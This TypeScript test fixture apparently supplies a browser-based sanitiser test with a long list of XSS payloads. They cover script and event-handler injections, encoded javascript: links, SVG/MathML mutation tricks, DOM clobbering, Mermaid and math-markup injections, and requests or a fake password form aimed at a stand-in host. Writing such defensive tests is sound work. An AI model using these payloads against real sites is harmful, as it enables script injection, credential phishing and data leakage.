// Texts that try to run something, to ask another host, or to pass for a part of the app. A real browser
// renders each of them in a test; none may succeed.

/** Where attempts lead to: nothing of it may ever be asked for. */
export const OTHER_HOST = "https://elsewhere.invalid";

const RUN = "window.ran=1";

/** Scripts and handlers, as they are. */
const PLAIN = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${OTHER_HOST}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<img src=x:x onerror\n=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<body onload=${RUN}>`,
  `<p onmouseover="${RUN}" onclick="${RUN}">x</p>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<b style="animation-name:x" onanimationstart="${RUN}">x</b>`,
  `<div onpointerrawupdate=${RUN} style="position:fixed;inset:0">x</div>`,
];

/** Frames, forms, embeddings and redirections. */
const FRAMES = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${OTHER_HOST}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form action="${OTHER_HOST}"><input name=password><button type=submit>Log in</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=${OTHER_HOST}">`,
  `<base href="${OTHER_HOST}/">`,
  `<link rel="stylesheet" href="${OTHER_HOST}/x.css">`,
  `<portal src="${OTHER_HOST}"></portal>`,
];

/** Pictures, styles and other things that ask another host. */
const REQUESTS = [
  `![x](${OTHER_HOST}/a.png)`,
  `![x](//elsewhere.invalid/a.png)`,
  `![x][p]\n\n[p]: ${OTHER_HOST}/a.png`,
  `<img src="${OTHER_HOST}/b.png">`,
  `<img srcset="${OTHER_HOST}/c.png 1x">`,
  `<picture><source srcset="${OTHER_HOST}/d.png"><img></picture>`,
  `<video poster="${OTHER_HOST}/e.png" src="${OTHER_HOST}/e.mp4"></video>`,
  `<style>@import "${OTHER_HOST}/f.css"; body { background: url(${OTHER_HOST}/g.png) }</style>`,
  `<p style="background:url(${OTHER_HOST}/h.png)">x</p>`,
  `<table background="${OTHER_HOST}/i.png"><tr><td background="${OTHER_HOST}/j.png">x</table>`,
  `![x](/api/attachments/../me)`,
  `![x](/api/me)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![x" onerror="${RUN}](data:image/png;base64,AAAA)`,
  `![x](data:image/png;base64,AAAA" onerror="${RUN})`,
];

/** Links that are none. */
const LINKS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](<java\nscript:${RUN}>)`,
  `[x](javascript&colon;${RUN})`,
  `[x](javascript&#58;${RUN})`,
  `[x](&#x6A;avascript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](\u00A0javascript:${RUN})`,
  `[x](java\u200Bscript:${RUN})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](blob:${OTHER_HOST}/1)`,
  `[x](file:///%73ecret)`,
  `[x](/login/out)`,
  `[x](//elsewhere.invalid)`,
  `[x](https://a.example "t" onclick="${RUN}")`,
  `[x](https://a.example '"onmouseover=${RUN} x="')`,
  `[x](https://a.example/"onmouseover="${RUN})`,
  `[x][r]\n\n[r]: javascript:${RUN}`,
  `[x][r]\n\n[r]: <javascript:${RUN}> "t"`,
  `<javascript:${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="https://a.example" target=_self rel=opener>x</a>`,
  `<area href="javascript:${RUN}"><map name=m></map>`,
  `javascript:${RUN}//https://a.example`,
  `https://a.example/<script>${RUN}</script>`,
  `[![x](javascript:${RUN})](javascript:${RUN})`,
];

/** Other grammars within HTML, and HTML that is read twice in two ways. */
const MUTATIONS = [
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<p title="a>b"<img src=x onerror=${RUN}>`,
  `<pre><img src=x onerror=${RUN}></pre>`,
  `<code><script>${RUN}</script></code> <kbd><img src=x onerror=${RUN}></kbd>`,
  `\u2028<img src=x onerror=${RUN}>\u2029`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;img src=x onerror=${RUN}&#62;`,
];

/** What would pass for a part of the page, or take the place of one. */
const CLOBBERING = [
  `<img name=cookie><img name=body id=app>`,
  `<p id="app">x</p><p id="location">y</p>`,
  `<a id=csrf name=csrf href="https://a.example">x</a>`,
  `<form id=self name=parent><input name=innerHTML id=attributes></form>`,
  `<button type="button" data-do="copy" class="main">x</button>`,
  `<dialog open>Your login has ended</dialog>`,
  `<p class="spoken" role="alert" aria-live="assertive">x</p>`,
  `# constructor {#__proto__}\n\n## toString`,
  `text[^__proto__]\n\n[^__proto__]: note`,
  `[__proto__]: https://a.example\n\n[x][__proto__] [constructor]`,
];

/** Markdown of its own that ends in HTML, formulas and code. */
const MARKDOWN = [
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`html onload=${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `    <script>${RUN}</script>`,
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|---|---|\n` +
    `| <script>${RUN}</script> | \`</td><img src=x onerror=${RUN}>\` |`,
  `- [ ] <img src=x onerror=${RUN}>\n- [x] [y](javascript:${RUN})`,
  `> <iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `**<img src=x onerror=${RUN}>** ~~<svg onload=${RUN}>~~`,
  `<b>**<i onclick=${RUN}>x</b>**`,
  `$\\href{javascript:${RUN}}{x}$ $\\url{javascript:${RUN}}$`,
  `$$\\includegraphics{${OTHER_HOST}/k.png}$$`,
  `$\\text{<img src=x onerror=${RUN}>} = 1$`,
  `$$\\style{background:url(${OTHER_HOST}/l.png)}{x} \\class{spoken}{x} \\id{app}{x} \\label{app}$$`,
  `\\(</span><img src=x onerror=${RUN}>\\)`,
  `\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${RUN}>"] --> B\nclick B "javascript:parent.${RUN}"\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n` +
    `A["<img src='${OTHER_HOST}/m.png' onerror='${RUN}'>"]\n\`\`\``,
  `\`\`\`mermaid\n---\nconfig:\n  themeCSS: "@import url(${OTHER_HOST}/n.css);"\n---\ngraph TD\nA --> B\n\`\`\``,
  `\`\`\`mermaid\nflowchart TD\nA@{ img: "${OTHER_HOST}/o.png", label: "x", w: 60, h: 60 } --> B\n\`\`\``,
  `\`\`\`mermaid\nflowchart TD\nA@{ "\\u0069mg": "${OTHER_HOST}/p.png" }\n\`\`\``,
];

export const XSS_SAMPLES: readonly string[] = [
  ...PLAIN,
  ...FRAMES,
  ...REQUESTS,
  ...LINKS,
  ...MUTATIONS,
  ...CLOBBERING,
  ...MARKDOWN,
];
